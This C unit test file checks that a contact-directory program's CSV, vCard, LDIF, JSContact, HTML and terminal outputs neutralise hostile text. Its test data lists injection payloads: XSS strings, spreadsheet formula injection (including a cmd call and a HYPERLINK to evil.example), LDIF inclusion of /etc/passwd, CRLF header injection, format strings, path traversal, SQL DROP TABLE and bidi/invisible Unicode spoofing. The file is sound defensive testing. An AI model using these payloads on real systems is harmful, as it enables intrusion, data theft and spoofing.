/* Text as a weapon: what other States may sign reaches every file that this program writes, and the terminal,
 * and is text there. */
#include "tests/test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <utf8proc.h>

#include "node/cli/terminal.h"
#include "node/column.h"
#include "node/jscontact.h"
#include "node/ldif.h"
#include "node/leaflet.h"
#include "node/shown.h"
#include "node/tableput.h"
#include "node/vcard.h"

/* By the numbers of the corpus of bad inputs: 56 to 66, v2, v3. */
static const struct {
    const char *number, *text;
    const char *refused; /* what an author is told; NULL: it may be written, and is harmless */
} payloads[] = {
    {"56", "<script>alert(1)</script>", NULL},
    {"56", "\"><img src=x onerror=alert(1)>", NULL},
    {"56", "</title><svg onload=alert(1)>", NULL},
    {"56", "'-alert(1)-'", NULL},
    {"56", "{{1+1}}${7*7}", NULL},
    {"56", "]]>", NULL},
    {"57", "abc\xe2\x80\xaetxt.exe", "turns the direction of writing: take it out"},
    {"57",
     "a\xe2\x81\xa6"
     "b\xe2\x81\xa9"
     "c",
     "turns the direction of writing: take it out"},
    {"57",
     "a\xe2\x80\x8e"
     "b",
     "turns the direction of writing: take it out"},
    {"57",
     "a\xe2\x80\x8f"
     "b",
     "turns the direction of writing: take it out"},
    {"57",
     "a\xd8\x9c"
     "b",
     "turns the direction of writing: take it out"},
    {"58",
     "a\xe2\x80\x8b"
     "b",
     "cannot be seen: take it out"},
    {"58",
     "a\xef\xbb\xbf"
     "b",
     "cannot be seen: take it out"},
    {"58",
     "a\xf3\xa0\x80\x81"
     "b",
     "cannot be seen: take it out"},
    {"58",
     "a\xc2\xad"
     "b",
     "cannot be seen: take it out"},
    {"59", "a\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86",
     "more than 4 combining marks on one letter: take them out"},
    {"60", "مركز الطوارئ", NULL},
    {"60", "מרכז", NULL},
    {"61",
     "Sw\xd0\xb5"
     "den",
     NULL},
    {"v2", "=cmd|' /C calc'!A0", NULL},
    {"v2", "@SUM(A1:A9)", NULL},
    {"v2", "-2+3", NULL},
    {"v2", "+1+1", NULL},
    {"v2", "'=1", NULL},
    {"v2", "=HYPERLINK(\"https://evil.example/\"&A1)", NULL},
    {"v3", "END:VCARD", NULL},
    {"v3", "BEGIN:VCARD", NULL},
    {"v3", "a;b,c\\d:e", NULL},
    {"v3", "\\nEMAIL:evil@example.org", NULL},
    {"v3", "^n^'^^", NULL},
    {"ldif", "dn: cn=evil", NULL},
    {"ldif", "< file:///etc/passwd", NULL},
    {"ldif", ":colon", NULL},
    {"ldif", "x\xe2\x80\xa8mail: evil@example.org", "cannot be seen: take it out"},
    {"json", "\",\"x\":\"", NULL},
    {"json", "\\u0000", NULL},
    {"log", "a%0d%0aSet-Cookie: x", NULL},
    {"log", "%s%n%s%n", NULL},
    {"path", "../../etc/passwd", NULL},
    {"sql", "'; DROP TABLE contacts; --", NULL},
};

#define COUNT (sizeof payloads / sizeof payloads[0])

static json_t *contact_of(const char *text) {
    return json_pack(
        "{s:s, s:s, s:s, s:{s:s}, s:{s:s}, s:{s:s}, s:{s:s}, s:[{s:s, s:s}], s:[{s:s, s:s}], s:[{s:s, s:s}]}",
        "state", "FR", "id", "00112233445566778899aabbccddeeff", "kind", "technical", "organisation", "und",
        text, "name", "fr", text, "title", "und", text, "address", "und", text, "emails", "address",
        "a@example.org", "purpose", text, "phones", "number", "+33123456789", "display", text, "channels",
        "kind", "x", "note", text);
}

/* No character that a terminal obeys, that turns a line or that cannot be seen. */
static void no_control(const char *where, const char *text, size_t len) {
    for (size_t at = 0; at < len;) {
        utf8proc_int32_t c;
        utf8proc_ssize_t used =
            utf8proc_iterate((const uint8_t *)text + at, (utf8proc_ssize_t)(len - at), &c);
        bool mark = at == 0 && c == 0xfeff; /* of the file */
        if (used <= 0 || (c < 0x20 && c != '\n' && c != '\r') || (c >= 0x7f && c < 0xa0) ||
            (c == 0xfeff && !mark) || (c >= 0x200b && c <= 0x200f) || (c >= 0x2028 && c <= 0x202e) ||
            (c >= 0x2060 && c <= 0x206f) || c == 0x61c || c == 0xad || (c >= 0xe0000 && c <= 0xe0fff))
            fail_msg("%s: U+%04X in: %s", where, (unsigned)c, text);
        at += (size_t)used;
    }
}

static size_t count_lines(const char *text, const char *begin) {
    size_t count = 0;
    for (const char *line = text; line != NULL; line = strchr(line, '\n')) {
        line += *line == '\n';
        count += strncmp(line, begin, strlen(begin)) == 0;
    }
    return count;
}

static void check_csv(const json_t *contacts) {
    char *text;
    size_t len;
    FILE *to = open_memstream(&text, &len);
    assert_true(tableput_csv(to, contacts, ','));
    fclose(to);
    no_control("csv", text, len);
    assert_int_equal(count_lines(text, ""), 3); /* header, row, and the end */
    const char *row = strchr(text, '\n') + 1;
    for (const char *c = row; *c != '\0'; c++) {
        const char *cell =
            c == row || (c[-1] == ',' && (c[1] == '=' || c[0] == '"')) ? c + (*c == '"') : NULL;
        if (cell != NULL && (c == row || c[-1] == ','))
            assert_null(strchr("=+-@", *cell));
    }
    free(text);
}

static void check_cards(const json_t *contact) {
    char *text;
    size_t len;
    for (int form = VCARD_WHOLE; form <= VCARD_BRIEF; form++) {
        FILE *to = open_memstream(&text, &len);
        vcard_put(to, contact, (enum vcard_form)form);
        fclose(to);
        no_control("vcard", text, len);
        assert_int_equal(count_lines(text, "BEGIN:VCARD"), 1);
        assert_int_equal(count_lines(text, "END:VCARD"), 1);
        assert_int_equal(count_lines(text, "EMAIL"), 1);
        free(text);
    }
    FILE *to = open_memstream(&text, &len);
    ldif_put(to, contact, "");
    fclose(to);
    no_control("ldif", text, len);
    assert_int_equal(count_lines(text, "dn:"), 1);
    assert_int_equal(count_lines(text, "mail:"), 1);
    assert_int_equal(count_lines(text, "mail:<"), 0);
    free(text);
    json_t *card = jscontact_card(contact);
    text = json_dumps(card, 0);
    no_control("jscontact", text, strlen(text));
    json_decref(card);
    free(text);
}

static void check_page(const json_t *contacts) {
    char *text;
    size_t len;
    FILE *to = open_memstream(&text, &len);
    assert_true(leaflet_put(to, contacts, LANGUAGE_EN, "test.example", "2026-12-31T00:00:00Z"));
    fclose(to);
    no_control("html", text, len);
    static const char *const markup[] = {"<script",           "<img", "<svg onload", "</title><svg",
                                         "onerror=alert(1)>", NULL};
    for (size_t i = 0; markup[i] != NULL; i++)
        if (strstr(text, markup[i]) != NULL)
            fail_msg("%s in the page", markup[i]);
    free(text);
}

static void every_text_is_text_in_every_file(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT; i++) {
        json_t *contact = contact_of(payloads[i].text), *shown = shown_record(contact);
        assert_non_null(contact);
        json_t *contacts = json_pack("[O]", shown);
        check_csv(contacts);
        check_cards(shown);
        check_page(contacts);
        char *safe = terminal_safe(payloads[i].text);
        no_control("terminal", safe, strlen(safe));
        assert_null(strpbrk(safe, "\r\n"));
        free(safe);
        json_decref(contacts);
        json_decref(shown);
        json_decref(contact);
    }
}

/* Where an author writes it, it is taken as it is, or refused with what to do. */
static void an_author_is_told_what_to_take_out(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT; i++) {
        struct record_error why = {""};
        json_t *contact = contact_of(payloads[i].text);
        bool good = record_check(contact, &why);
        if (good != (payloads[i].refused == NULL) ||
            (!good && (strstr(why.text, payloads[i].refused) == NULL ||
                       strncmp(why.text, "organisation.und: ", 18) != 0)))
            fail_msg("%s, %s: \"%s\"", payloads[i].number, payloads[i].text, why.text);
        json_decref(contact);
    }
}

/* 64, 65 and 66: addresses, numbers and links that are none; each refusal says where, which rule, what and
 * what to do. */
static void forms_are_refused_with_rule_and_remedy(void **state) {
    (void)state;
    static const struct {
        const char *number, *column, *text, *said;
    } cases[] = {
        {"64", "email", "a\nb@example.org@",
         "emails[0].address: not an e-mail address (RFC 5321, 6531): found"},
        {"64", "email", "a@@example.org", "write it as name@example.org"},
        {"64", "email", "a@b.example>", "not an e-mail address"},
        {"64", "email", "a@b", "not an e-mail address"},
        {"65", "phone", "=1+1", "phones[0].number: not a number of ITU-T E.164: found \"=1+1\": write +"},
        {"65", "phone", "+33;ext=", "phones[0].number"},
        {"65", "phone", "+3312345678901234567890", "phones[0].number"},
        {"66", "channel", "javascript:alert(1)",
         "channels[0].uri: not an https URI without user name (RFC 3986): found"},
        {"66", "channel", "data:text/html,x", "begin it with https://"},
        {"66", "channel", "http://example.org/", "begin it with https://"},
        {"66", "channel", "https://user@example.org/", "not an https URI without user name"},
        {"66", "channel", "https:\\\\host\\x", "not an https URI"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct record_error why = {""};
        json_t *record = json_pack("{s:s, s:{s:s}}", "kind", "technical", "organisation", "und", "x");
        bool good = column_set(record, cases[i].column, cases[i].text, "und", &why);
        if (strcmp(cases[i].column, "channel") == 0)
            good = good && column_set(record, "channel_kind", "web", "und", &why);
        column_done(record);
        good = good && record_check(record, &why);
        if (good || strstr(why.text, cases[i].said) == NULL)
            fail_msg("%s, %s: \"%s\"", cases[i].number, cases[i].text, why.text);
        json_decref(record);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_text_is_text_in_every_file),
        cmocka_unit_test(an_author_is_told_what_to_take_out),
        cmocka_unit_test(forms_are_refused_with_rule_and_remedy),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
